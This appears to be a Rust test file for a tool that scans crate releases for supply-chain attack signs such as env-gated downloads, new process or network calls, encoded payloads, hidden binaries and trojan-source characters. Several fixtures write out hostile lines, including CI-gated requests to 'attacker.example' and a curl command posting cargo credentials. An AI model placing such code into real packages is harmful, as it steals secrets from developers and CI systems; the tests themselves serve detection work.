//! Tests of the code analysis as a whole: fixture crates built from Rust
//! source strings and byte arrays, every fact, files syn rejects, macro
//! bodies, a large generated file, binaries, trojan-source characters, and
//! release histories that mimic known attacks.

use std::collections::HashMap;
use std::time::{Duration, Instant};

use super::payload::tests_support::{b64, noise};
use super::*;
use crate::compare::{Blobs, FileEntry};

fn rs(src: &str) -> FileFacts {
    analyse_file("src/lib.rs", src.as_bytes())
}

fn has(f: &FileFacts, kind: FactKind, detail: &str) -> bool {
    f.findings.iter().any(|x| x.kind == kind && x.detail.contains(detail))
}

fn find(f: &FileFacts, kind: FactKind) -> Vec<&Finding> {
    f.findings.iter().filter(|x| x.kind == kind).collect()
}

/// A release in memory: files by path, blobs by a made-up id.
#[derive(Default)]
struct Mem {
    blobs: HashMap<String, Vec<u8>>,
    loads: std::cell::Cell<usize>,
}

impl Blobs for Mem {
    fn blob(&self, id: &str) -> Option<Vec<u8>> {
        self.loads.set(self.loads.get() + 1);
        self.blobs.get(id).cloned()
    }
}

impl Mem {
    fn release(&mut self, files: &[(&str, &[u8])]) -> Vec<FileEntry> {
        files
            .iter()
            .map(|(path, bytes)| {
                let id = format!("{:016x}-{}", fxhash(bytes), bytes.len());
                self.blobs.insert(id.clone(), bytes.to_vec());
                FileEntry {
                    path: path.as_bytes().to_vec(),
                    executable: false,
                    id,
                    size: bytes.len() as u64,
                }
            })
            .collect()
    }
}

fn fxhash(b: &[u8]) -> u64 {
    b.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &x| {
        (h ^ u64::from(x)).wrapping_mul(0x100_0000_01b3)
    })
}

fn codes(s: &[crate::signals::Signal]) -> Vec<&'static str> {
    s.iter().map(|s| s.code).collect()
}

const MANIFEST: &[u8] = b"[package]\nname = \"demo\"\nversion = \"0.1.0\"\n";

#[test]
fn every_fact_from_a_parsed_file() {
    let src = r#"
use std::process::Command;
use std::{env, fs, net::TcpStream};

#[link(name = "payload", kind = "static")]
unsafe extern "C" {
    fn payload_main(argc: i32) -> i32;
    static mut PAYLOAD_STATE: u8;
}

#[unsafe(no_mangle)]
pub extern "C" fn exported() {}

#[export_name = "renamed_symbol"]
pub fn renamed() {}

#[used]
#[unsafe(link_section = ".init_array")]
static INIT: extern "C" fn() = exported;

#[ctor::ctor]
fn before_main() {}

pub unsafe fn raw() {}
unsafe impl Send for Holder {}
pub unsafe trait Marker {}
pub struct Holder;

pub fn work() {
    unsafe { core::arch::asm!("nop") };
    let _ = Command::new("git").arg("status").status();
    let _ = TcpStream::connect("127.0.0.1:80");
    let _ = reqwest::blocking::get("https://example.com/x");
    let _ = env::var("HOME");
    let _ = env!("CARGO_PKG_NAME");
    let _ = option_env!("PROFILE");
    fs::write("/tmp/out", b"x").ok();
    static DATA: &[u8] = include_bytes!("../assets/blob.bin");
    let _ = include_str!("notes.txt");
}
core::arch::global_asm!("");
"#;
    let f = rs(src);
    assert_eq!(f.kind, FileKind::Rust);
    assert_eq!(
        f.parse,
        ParseStatus::Parsed {
            macro_bodies_scanned: 0
        }
    );
    assert!(has(&f, FactKind::Link, "name = \"payload\""));
    assert!(has(&f, FactKind::ExternBlock, "extern \"C\""));
    assert!(has(&f, FactKind::ForeignItem, "payload_main"));
    assert!(has(&f, FactKind::ForeignItem, "PAYLOAD_STATE"));
    assert!(has(&f, FactKind::UnsafeAttribute, "no_mangle"));
    assert!(has(&f, FactKind::NoMangle, "exported"));
    assert!(has(&f, FactKind::ExportName, "renamed_symbol"));
    assert!(has(&f, FactKind::LinkSection, ".init_array"));
    assert!(has(&f, FactKind::Ctor, "link_section .init_array"));
    assert!(has(&f, FactKind::Ctor, "#[ctor]"));
    assert!(has(&f, FactKind::UnsafeFn, "raw"));
    assert!(has(&f, FactKind::UnsafeImpl, "Send"));
    assert!(has(&f, FactKind::UnsafeTrait, "Marker"));
    assert!(has(&f, FactKind::UnsafeBlock, "block"));
    assert!(has(&f, FactKind::Asm, "asm!"));
    assert!(has(&f, FactKind::Asm, "global_asm!"));
    assert!(has(&f, FactKind::Process, "std::process::Command::new(\"git\")"));
    assert!(has(&f, FactKind::Network, "std::net::TcpStream::connect"));
    assert!(has(
        &f,
        FactKind::Network,
        "reqwest::blocking::get(\"https://example.com/x\")"
    ));
    assert!(has(&f, FactKind::EnvRead, "std::env::var(\"HOME\")"));
    assert!(has(&f, FactKind::EnvRead, "env!(\"CARGO_PKG_NAME\")"));
    assert!(has(&f, FactKind::EnvRead, "option_env!(\"PROFILE\")"));
    assert!(has(
        &f,
        FactKind::FsWrite,
        "std::fs::write(\"/tmp/out\") (the enclosing function does not mention OUT_DIR)"
    ));
    assert!(has(&f, FactKind::Include, "include_bytes!(\"../assets/blob.bin\")"));
    assert!(has(&f, FactKind::Include, "include_str!(\"notes.txt\")"));
    assert_eq!(
        f.includes,
        vec!["../assets/blob.bin".to_owned(), "notes.txt".to_owned()]
    );
    // Found by syn, with lines and snippets.
    let p = find(&f, FactKind::Process)[0];
    assert!(!p.token_level);
    assert_eq!(p.line, 31);
    assert_eq!(p.snippet, "let _ = Command::new(\"git\").arg(\"status\").status();");
    assert_eq!(f.count(FactKind::UnsafeBlock).total, 1);
    // Proc-macro entry points.
    let pm = rs("#[proc_macro_derive(Thing)]\npub fn derive_thing(i: TokenStream) -> TokenStream { i }");
    assert!(has(&pm, FactKind::ProcMacroEntry, "proc_macro_derive derive_thing"));
}

#[test]
fn out_dir_writes_are_told_apart() {
    let f = rs(r#"
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(format!("{out}/gen.rs"), "").unwrap();
}
fn elsewhere() { std::fs::write("/etc/cron.d/x", "").unwrap(); }
"#);
    let w = find(&f, FactKind::FsWrite);
    assert_eq!(w.len(), 2);
    assert!(!w[0].detail.contains("OUT_DIR"));
    assert!(w[1].detail.contains("does not mention OUT_DIR"));
}

#[test]
fn test_code_is_marked() {
    let f = rs(r#"
pub fn f() {}
#[cfg(test)]
mod tests {
    #[test]
    fn t() { std::process::Command::new("ls"); let _ = "SGVsbG8="; }
}
#[cfg(not(test))]
fn real() { std::process::Command::new("sh"); }
"#);
    let p = find(&f, FactKind::Process);
    assert_eq!(p.len(), 2);
    assert!(p[0].in_test);
    assert!(!p[1].in_test);
    assert_eq!(f.count(FactKind::Process).in_test, 1);
}

#[test]
fn files_syn_rejects_still_yield_unsafe_and_processes() {
    // 2015-edition code: `async` as an identifier, anonymous parameters.
    let old = r#"
trait Handler { fn handle(&self, u8); }
fn main() {
    let async = 1;
    unsafe { libc::abort() };
    std::process::Command::new("sh").arg("-c").arg("id");
}
fn tail() -> u8 { let async = 2; std::process::Command::new("curl") }
"#;
    let f = rs(old);
    assert!(matches!(f.parse, ParseStatus::Recovered { .. }), "{:?}", f.parse);
    assert!(has(&f, FactKind::UnsafeBlock, "block"));
    assert!(has(&f, FactKind::Process, "Command::new(\"sh\")"));
    assert!(has(&f, FactKind::Process, "Command::new(\"curl\")"));

    // Does not even lex: an unterminated string.
    let broken =
        "fn f() {\n    unsafe { x() }\n    std::process::Command::new(\"curl\");\n    let s = \"unterminated\n";
    let f = rs(broken);
    assert!(
        matches!(&f.parse, ParseStatus::TokensOnly { reason } if reason.contains("lex")),
        "{:?}",
        f.parse
    );
    assert!(has(&f, FactKind::UnsafeBlock, "block"));
    let p = find(&f, FactKind::Process);
    assert_eq!(p.len(), 1);
    assert!(p[0].token_level);
    assert_eq!(p[0].line, 3);

    // An unterminated item and unstable syntax.
    let f = rs("fn ok() { unsafe { a() } }\nfn bad( {\n    std::process::Command::new(\"x\");\n");
    assert!(has(&f, FactKind::UnsafeBlock, "block") && has(&f, FactKind::Process, "Command::new(\"x\")"));
    let f = rs(
        "fn f() { let x = yeet 1; unsafe { g() } }\nfn h() -> impl use<> Sized { std::process::Command::new(\"y\") }",
    );
    assert!(has(&f, FactKind::UnsafeBlock, "block") && has(&f, FactKind::Process, "Command::new(\"y\")"));

    // Frontmatter (cargo scripts) is skipped, the rest is parsed.
    let script = "#!/usr/bin/env cargo\n---\n[dependencies]\nreqwest = \"0.12\"\n---\nfn main() { unsafe { f() } }\n";
    let f = rs(script);
    assert_eq!(
        f.parse,
        ParseStatus::Parsed {
            macro_bodies_scanned: 0
        }
    );
    assert_eq!(find(&f, FactKind::UnsafeBlock)[0].line, 6);

    // Too deep for the parser: token scanned, nothing hidden.
    let deep = format!(
        "fn f() {{ let x = {}1{}; unsafe {{ g() }} }}",
        "(".repeat(300),
        ")".repeat(300)
    );
    let f = rs(&deep);
    assert!(matches!(&f.parse, ParseStatus::TokensOnly { reason } if reason.contains("deeply")));
    assert!(has(&f, FactKind::UnsafeBlock, "block"));
    let chain = format!("fn f() {{ let x = 1{}; unsafe {{ g() }} }}", " + 1".repeat(5000));
    assert!(matches!(rs(&chain).parse, ParseStatus::TokensOnly { .. }));

    // Not UTF-8: token scanned lossily.
    let mut bytes = b"fn f() { unsafe { g() } } // \xff\xfe".to_vec();
    bytes.push(b'\n');
    let f = analyse_file("src/x.rs", &bytes);
    assert_eq!(f.kind, FileKind::Binary);
    assert!(has(&f, FactKind::UnsafeBlock, "block"));
}

#[test]
fn macro_bodies_are_read() {
    let src = r#"
cfg_if::cfg_if! {
    if #[cfg(unix)] {
        fn run() {
            unsafe { libc::getpid(); }
            std::process::Command::new("id").status().ok();
        }
    } else {
        fn run() {}
    }
}
macro_rules! sneaky {
    ($x:expr) => {{ let _ = std::net::TcpStream::connect($x); unsafe { $x } }};
}
lazy_static::lazy_static! {
    static ref CLIENT: u8 = { std::process::Command::new("whoami"); 1 };
}
fn g() { println!("{}", std::env::var("CI").is_ok()); }
"#;
    let f = rs(src);
    assert!(matches!(f.parse, ParseStatus::Parsed { .. }), "{:?}", f.parse);
    // cfg_if: parsed by syn, inside the `run` function.
    let p: Vec<&Finding> = find(&f, FactKind::Process);
    let id = p.iter().find(|x| x.detail.contains("\"id\"")).copied();
    assert!(id.is_some_and(|x| !x.token_level && x.line == 6), "{p:?}");
    assert!(
        find(&f, FactKind::UnsafeBlock)
            .iter()
            .any(|x| x.line == 5 && !x.token_level)
    );
    // macro_rules: bodies are read too.
    assert!(has(&f, FactKind::Network, "std::net::TcpStream::connect"));
    assert!(find(&f, FactKind::UnsafeBlock).iter().any(|x| x.line == 13));
    // lazy_static: not Rust syntax, still read.
    assert!(has(&f, FactKind::Process, "Command::new(\"whoami\")"));
    // Format arguments.
    assert!(has(&f, FactKind::EnvRead, "std::env::var(\"CI\")"));
}

#[test]
fn env_gated_code_in_ordinary_functions() {
    let f = rs(r#"
pub fn parse(input: &str) -> usize {
    if std::env::var("CI").is_ok() {
        let _ = reqwest::blocking::get("https://attacker.example/p");
    }
    input.len()
}
pub fn early() {
    if std::env::var_os("GITHUB_ACTIONS").is_none() { return; }
    std::process::Command::new("curl").arg("-d@/home/runner/.cargo/credentials").status().ok();
}
pub fn features() {
    if std::env::var("CARGO_FEATURE_BUNDLED").is_ok() { std::process::Command::new("make").status().ok(); }
}
pub fn tool() { let cc = std::env::var("CC").unwrap_or_default(); std::process::Command::new(cc); }
"#);
    let g: Vec<&str> = find(&f, FactKind::EnvGated).iter().map(|x| x.detail.as_str()).collect();
    assert_eq!(g.len(), 2, "{g:?}");
    assert!(g[0].starts_with("CI -> reqwest::blocking::get"));
    assert!(g[1].starts_with("GITHUB_ACTIONS -> std::process::Command::new(\"curl\")"));
}

#[test]
fn a_large_generated_file_is_quick() {
    let mut src = String::with_capacity(2_200_000);
    let mut n = 0;
    while src.len() < 2 * 1024 * 1024 {
        src.push_str(&format!(
            "pub fn generated_{n}(x: u64) -> u64 {{\n    let table = [1u8, 2, 3, 4, 5, 6, 7, 8];\n    if x > {n} {{ unsafe {{ core::ptr::read(&x) }} }} else {{ x.wrapping_mul({n}) + table[0] as u64 }}\n}}\n"
        ));
        n += 1;
    }
    let start = Instant::now();
    let f = rs(&src);
    let took = start.elapsed();
    assert_eq!(
        f.parse,
        ParseStatus::Parsed {
            macro_bodies_scanned: 0
        }
    );
    assert_eq!(f.count(FactKind::UnsafeBlock).total, n);
    assert_eq!(find(&f, FactKind::UnsafeBlock).len(), MAX_FINDINGS_PER_KIND);
    assert!(took < Duration::from_secs(10), "took {took:?}");
    // The same size as one line of minified code.
    let line = src.replace('\n', " ");
    let start = Instant::now();
    let f = rs(&line);
    assert!(start.elapsed() < Duration::from_secs(10));
    assert!(find(&f, FactKind::UnsafeBlock)[0].snippet.chars().count() <= 202);
}

#[test]
fn encoded_payloads() {
    let blob = b64(&noise(3000, 11));
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.extend(noise(400, 4));
    let elf64 = b64(&elf);
    let bytes: Vec<String> = noise(1024, 2).iter().map(|b| format!("0x{b:02x}")).collect();
    let hex: String = noise(300, 8).iter().map(|b| format!("{b:02x}")).collect();
    let src = format!(
        r#"
const A: &str = "{blob}";
const B: &str = "{elf64}";
static C: [u8; 1024] = [{}];
const D: &str = "{hex}";
const PROSE: &str = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat.";
const URL: &str = "https://github.com/rust-lang/crates.io-index/blob/master/config.json?plain=1&token=ghp_notarealtokenatallbutlongenoughtobenoticed1234567890";
const TABLE: [u8; 600] = [{}];
"#,
        bytes.join(", "),
        (0..600).map(|i| (i % 7).to_string()).collect::<Vec<_>>().join(",")
    );
    let f = rs(&src);
    let p = find(&f, FactKind::EncodedPayload);
    let lines: Vec<u32> = p.iter().map(|x| x.line).collect();
    assert_eq!(lines, vec![2, 3, 4, 5], "{p:?}");
    assert!(p[0].detail.starts_with("base64 text of 4000 characters"));
    assert!(p[1].detail.contains("starts like ELF"));
    assert!(p[2].detail.starts_with("array of 1024 byte values"));
    assert!(p[3].detail.starts_with("hex text of 600 characters"));
}

#[test]
fn binary_files_by_magic_number() {
    let mut pe = vec![0u8; 0x100];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let cases: Vec<(&str, Vec<u8>, Magic)> = vec![
        (
            "bin/x86_64-linux",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0".to_vec(),
            Magic::Elf,
        ),
        ("bin/tool.exe", pe, Magic::Pe),
        (
            "bin/macos",
            b"\xCF\xFA\xED\xFE\x07\0\0\x01\x03\0\0\0".to_vec(),
            Magic::MachO,
        ),
        ("pkg/mod.wasm", b"\0asm\x01\0\0\0".to_vec(), Magic::Wasm),
        ("lib/libfoo.a", b"!<arch>\n/               0".to_vec(), Magic::Ar),
        ("data.gz", b"\x1f\x8b\x08\0\0\0\0\0".to_vec(), Magic::Gzip),
        // A binary hiding under a .rs name.
        ("src/payload.rs", b"\x7fELF\x02\x01\x01\0".to_vec(), Magic::Elf),
    ];
    for (path, bytes, want) in &cases {
        let f = analyse_file(path, bytes);
        assert_eq!(f.magic, Some(*want), "{path}");
        assert_eq!(f.kind, FileKind::Binary, "{path}");
        assert!(f.findings.is_empty());
    }
    assert_eq!(analyse_file("README.md", b"# hello\n").magic, None);
}

#[test]
fn trojan_source_characters() {
    let src = "fn main() {\n    let access_level = \"user\u{202E} \u{2066}// Check if admin\u{2069} \u{2066}\";\n    /* \u{202E} } \u{2066}if is_admin\u{2069} \u{2066} begin admins only */\n    let zw\u{200B}x = 1;\n    let s = \"a\u{200D}b\";\n}\n";
    let f = rs(src);
    let bidi: Vec<&str> = find(&f, FactKind::BidiControl)
        .iter()
        .map(|x| x.detail.as_str())
        .collect();
    assert!(
        bidi.iter()
            .any(|d| d.contains("U+202E RIGHT-TO-LEFT OVERRIDE in string")),
        "{bidi:?}"
    );
    assert!(
        bidi.iter()
            .any(|d| d.contains("U+202E RIGHT-TO-LEFT OVERRIDE in comment"))
    );
    assert!(
        bidi.iter()
            .any(|d| d.contains("U+2066 LEFT-TO-RIGHT ISOLATE in comment"))
    );
    let inv: Vec<&str> = find(&f, FactKind::InvisibleCharacter)
        .iter()
        .map(|x| x.detail.as_str())
        .collect();
    assert!(
        inv.iter().any(|d| d.contains("U+200B ZERO WIDTH SPACE in identifier")),
        "{inv:?}"
    );
    assert!(inv.iter().any(|d| d.contains("U+200D ZERO WIDTH JOINER in string")));
    // Snippets show them escaped.
    assert!(find(&f, FactKind::BidiControl)[0].snippet.contains("\\u{202E}"));
    // In any text file too.
    let md = analyse_file("README.md", "see \u{202E}txt.exe\n".as_bytes());
    assert!(has(&md, FactKind::BidiControl, "in text"));
    // A BOM at the start is not reported.
    assert!(rs("\u{FEFF}fn main() {}").findings.is_empty());
}

#[test]
fn confusable_identifiers() {
    let f = rs("fn p\u{430}yload() {}\nfn payload() {}\nfn größe() {}\nfn λ() {}\nfn \u{440}\u{43E}\u{440}() {}\n");
    let c: Vec<&Finding> = find(&f, FactKind::ConfusableIdentifier);
    assert_eq!(c.len(), 2, "{c:?}");
    assert!(c[0].detail.contains("reads as `payload`") && c[0].detail.contains("U+0430") && c[0].line == 1);
    assert!(c[1].detail.contains("reads as `pop`"));
}

fn release(mem: &mut Mem, files: &[(&str, &[u8])], build: Option<&str>, pm: bool, cache: &mut Cache) -> CodeFacts {
    let entries = mem.release(files);
    analyse_release(&entries, mem, build, pm, cache)
}

#[test]
fn attack_history_raises_signals_on_the_bad_release_only() {
    let benign = br#"
pub fn parse(input: &str) -> usize {
    input.split(',').count()
}
"#;
    let bad = br#"
pub fn parse(input: &str) -> usize {
    if std::env::var("CI").is_ok() {
        let _ = reqwest::blocking::get("https://attacker.example/stage2");
    }
    input.split(',').count()
}
"#;
    let mut mem = Mem::default();
    let mut cache = Cache::default();
    let r1 = release(
        &mut mem,
        &[("Cargo.toml", MANIFEST), ("src/lib.rs", benign)],
        None,
        false,
        &mut cache,
    );
    let d1 = delta(None, &r1);
    assert!(signals(&r1, &d1).is_empty(), "{:?}", signals(&r1, &d1));
    let r2 = release(
        &mut mem,
        &[("Cargo.toml", MANIFEST), ("src/lib.rs", bad)],
        None,
        false,
        &mut cache,
    );
    let d2 = delta(Some(&r1), &r2);
    let s2 = signals(&r2, &d2);
    assert_eq!(codes(&s2), vec!["network-added", "env-gated-code"]);
    assert!(
        s2[0].evidence[0]
            .value
            .starts_with("src/lib.rs:4 let _ = reqwest::blocking::get(")
    );
    assert!(s2[1].evidence[0].value.contains("CI -> reqwest::blocking::get"));
    assert!(
        s2.iter()
            .all(|s| s.kind == "inference" && !s.summary.contains("attacker"))
    );
    // A third release that keeps the code raises nothing new.
    let r3 = release(
        &mut mem,
        &[("Cargo.toml", MANIFEST), ("src/lib.rs", bad)],
        None,
        false,
        &mut cache,
    );
    assert!(signals(&r3, &delta(Some(&r2), &r3)).is_empty());

    // The same attack with a process instead of a download.
    let bad_proc = br#"
pub fn parse(input: &str) -> usize {
    if std::env::var("GITHUB_ACTIONS").is_ok() {
        std::process::Command::new("curl").arg("https://attacker.example/p").status().ok();
    }
    input.split(',').count()
}
"#;
    let r4 = release(
        &mut mem,
        &[("Cargo.toml", MANIFEST), ("src/lib.rs", bad_proc)],
        None,
        false,
        &mut cache,
    );
    assert_eq!(
        codes(&signals(&r4, &delta(Some(&r1), &r4))),
        vec!["process-added", "env-gated-code"]
    );
}

#[test]
fn build_scripts_proc_macros_and_tests_have_their_own_signals() {
    let build = br#"
mod helpers;
fn main() {
    helpers::fetch();
    std::process::Command::new("cc").status().ok();
}
"#;
    let helpers = br#"pub fn fetch() { let _ = ureq::get("https://example.com/lib.tar.gz").call(); }"#;
    let lib = b"pub fn f() {}\n#[cfg(test)] mod tests;\n";
    let tests_mod = b"#[test] fn t() { let _ = std::net::TcpStream::connect(\"localhost:1\"); }";
    let integration = b"#[test] fn it() { std::process::Command::new(\"ls\").status().ok(); }";
    let mut mem = Mem::default();
    let mut cache = Cache::default();
    let files: Vec<(&str, &[u8])> = vec![
        ("Cargo.toml", MANIFEST),
        ("build.rs", build),
        ("helpers.rs", helpers),
        ("src/lib.rs", lib),
        ("src/tests.rs", tests_mod),
        ("tests/it.rs", integration),
    ];
    let r = release(&mut mem, &files, Some("build.rs"), false, &mut cache);
    let bs = r.build_script.clone().unwrap_or_else(|| panic!("build script facts"));
    assert!(bs.present);
    assert_eq!(bs.files, vec!["build.rs".to_owned(), "helpers.rs".to_owned()]);
    assert_eq!((bs.process, bs.network), (1, 1));
    let s = signals(&r, &delta(None, &r));
    assert_eq!(
        codes(&s),
        vec!["build-script-runs-process", "build-script-uses-network"]
    );
    let net = r.kind(FactKind::Network).map(|k| k.by_role.clone()).unwrap_or_default();
    assert_eq!((net[&Role::Build], net[&Role::Test], net[&Role::Code]), (1, 1, 0));

    // A proc-macro crate that gains network use.
    let pm_lib =
        b"#[proc_macro] pub fn m(i: TokenStream) -> TokenStream { let _ = reqwest::blocking::get(\"http://x\"); i }";
    let r1 = release(&mut mem, &[("src/lib.rs", b"pub fn f() {}")], None, true, &mut cache);
    let r2 = release(&mut mem, &[("src/lib.rs", pm_lib)], None, true, &mut cache);
    assert_eq!(
        codes(&signals(&r2, &delta(Some(&r1), &r2))),
        vec!["proc-macro-uses-network"]
    );
}

#[test]
fn unsafe_ffi_payload_binary_and_unicode_signals() {
    let v1: &[u8] = b"pub fn a() { unsafe { x() } }\n";
    let payload = b64(&noise(2000, 3));
    let v2 = format!(
        "pub fn a() {{ unsafe {{ x() }} }}\npub fn b() {{ unsafe {{ y() }}; unsafe {{ z() }} }}\nextern \"C\" {{ fn evil(); }}\nconst P: &str = \"{payload}\";\nfn p\u{430}yload() {{}}\n// \u{202E} reversed\nstatic BIN: &[u8] = include_bytes!(\"../bin/helper\");\n"
    );
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    let mut mem = Mem::default();
    let mut cache = Cache::default();
    let r1 = release(&mut mem, &[("src/lib.rs", v1)], None, false, &mut cache);
    let r2 = release(
        &mut mem,
        &[("src/lib.rs", v2.as_bytes()), ("bin/helper", &elf)],
        None,
        false,
        &mut cache,
    );
    let d = delta(Some(&r1), &r2);
    assert_eq!((d.unsafe_before, d.unsafe_after), (1, 3));
    let s = signals(&r2, &d);
    assert_eq!(
        codes(&s),
        vec![
            "unsafe-added",
            "ffi-added",
            "encoded-payload",
            "binary-executable",
            "bidi-control-character",
            "confusable-identifier"
        ]
    );
    assert!(s[0].summary.contains("from 1 to 3 (+2)"));
    assert_eq!(s[0].evidence.len(), 2, "only the new blocks: {:?}", s[0].evidence);
    assert_eq!(s[3].evidence[0].value, format!("bin/helper (ELF, {} bytes)", elf.len()));
    assert!(s[3].evidence[1].value.starts_with("src/lib.rs:7 includes bin/helper"));
    assert!(r2.binaries[0].included_by == vec!["src/lib.rs:7".to_owned()]);
}

#[test]
fn the_cache_makes_unchanged_files_free() {
    let mut mem = Mem::default();
    let mut cache = Cache::default();
    let files: Vec<(String, Vec<u8>)> = (0..20)
        .map(|i| (format!("src/m{i}.rs"), format!("pub fn f{i}() {{}}").into_bytes()))
        .collect();
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    let a = release(&mut mem, &refs, None, false, &mut cache);
    assert_eq!(mem.loads.get(), 20);
    let mut changed = refs.clone();
    let edited = b"pub fn f0() { unsafe {} }".to_vec();
    changed[0].1 = &edited;
    let b = release(&mut mem, &changed, None, false, &mut cache);
    assert_eq!(mem.loads.get(), 21, "only the changed file is loaded");
    assert_eq!(cache.stats().0, 19);
    assert_eq!(b.unsafe_total, 1);
    assert_eq!(a.unsafe_total, 0);
    // Deterministic output.
    let again = release(&mut mem, &changed, None, false, &mut Cache::default());
    assert_eq!(
        serde_json::to_string(&b).unwrap_or_default(),
        serde_json::to_string(&again).unwrap_or_default()
    );
}

#[test]
fn code_signals_are_unique_and_documented() {
    let doc = include_str!("../../../docs/SIGNALS-CODE.md");
    let mut seen = std::collections::BTreeSet::new();
    for (code, _) in CODE_SIGNALS {
        assert!(seen.insert(*code), "duplicate {code}");
        assert!(
            doc.contains(&format!("| `{code}` |")),
            "{code} is not documented in docs/SIGNALS-CODE.md"
        );
        assert!(
            !crate::signals::CODES.iter().any(|(c, _)| c == code),
            "{code} clashes with crate::signals::CODES"
        );
    }
    for kind in FactKind::ALL {
        assert!(
            doc.contains(&format!("`{}`", kind.name())),
            "fact {} is not documented",
            kind.name()
        );
        assert_eq!(
            serde_json::to_string(kind).unwrap_or_default(),
            format!("\"{}\"", kind.name())
        );
    }
}

#[test]
fn hostile_inputs_never_crash() {
    let inputs: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"\xff\xfe\xfd".to_vec(),
        b"fn".to_vec(),
        b"macro_rules! m { ($($t:tt)*) => { m!($($t)*) } } m!(unsafe {});".to_vec(),
        "}}}}{{{{".repeat(100).into_bytes(),
        format!("fn f() {{ {} }}", "{".repeat(10_000)).into_bytes(),
        format!("fn f() {{ {} }}", "m!(".repeat(2000)).into_bytes(),
        "r#\"".repeat(1000).into_bytes(),
        "'".repeat(1000).into_bytes(),
        "/*".repeat(1000).into_bytes(),
        "#[unsafe(".repeat(500).into_bytes(),
        "\u{202E}".repeat(5000).into_bytes(),
        format!("const X: &str = \"{}\";", "A".repeat(100_000)).into_bytes(),
        format!("fn f() {{ {} }}", "x.y()".repeat(3000)).into_bytes(),
        format!("fn f() {{ {} }}", "if a {} else ".repeat(2000) + "{}").into_bytes(),
    ];
    for bytes in &inputs {
        let f = analyse_file("src/lib.rs", bytes);
        assert!(f.findings.len() <= FactKind::ALL.len() * MAX_FINDINGS_PER_KIND);
    }
    // Deeply nested input goes to the token scanner, which stays linear.
    let deep: Vec<String> = vec![
        "m!(".repeat(200_000),
        "if ".repeat(300_000),
        "extern \"C\" {".repeat(100_000),
        "#[a(".repeat(100_000),
        "use a::{".repeat(100_000),
        format!("fn f() {{ {} }}", "unsafe { env!(\"X\"); ".repeat(100_000)),
    ];
    for src in &deep {
        let start = Instant::now();
        let f = rs(src);
        assert!(matches!(f.parse, ParseStatus::TokensOnly { .. }));
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{:?} for {}",
            start.elapsed(),
            &src[..20]
        );
    }
}

#[test]
fn roles_follow_module_declarations() {
    let mut mem = Mem::default();
    let files: Vec<(&str, &[u8])> = vec![
        ("build/main.rs", b"mod gen;\nfn main() { gen::run() }"),
        (
            "build/gen.rs",
            b"pub fn run() { std::process::Command::new(\"protoc\"); }",
        ),
        ("src/lib.rs", b"mod net;\n#[path = \"platform/unix.rs\"] mod sys;"),
        ("src/net.rs", b"mod tcp;\n#[cfg(test)]\nmod tests;"),
        (
            "src/net/tcp.rs",
            b"pub fn c() { let _ = std::net::TcpStream::connect(\"x\"); }",
        ),
        ("src/net/tests.rs", b"fn t() { std::process::Command::new(\"nc\"); }"),
        ("src/platform/unix.rs", b"pub fn s() { unsafe {} }"),
        ("examples/demo.rs", b"fn main() { std::process::Command::new(\"ls\"); }"),
    ];
    let r = release(&mut mem, &files, Some("build/main.rs"), false, &mut Cache::default());
    let roles: Vec<(String, Role)> = r.entries.iter().map(|e| (e.path.clone(), e.role)).collect();
    let want = [
        ("build/gen.rs", Role::Build),
        ("build/main.rs", Role::Build),
        ("examples/demo.rs", Role::Test),
        ("src/lib.rs", Role::Code),
        ("src/net.rs", Role::Code),
        ("src/net/tcp.rs", Role::Code),
        ("src/net/tests.rs", Role::Test),
        ("src/platform/unix.rs", Role::Code),
    ];
    assert_eq!(roles, want.map(|(p, r)| (p.to_owned(), r)).to_vec());
    let s = signals(&r, &delta(None, &r));
    assert_eq!(
        codes(&s),
        vec!["build-script-runs-process", "network-added", "unsafe-added"]
    );
}
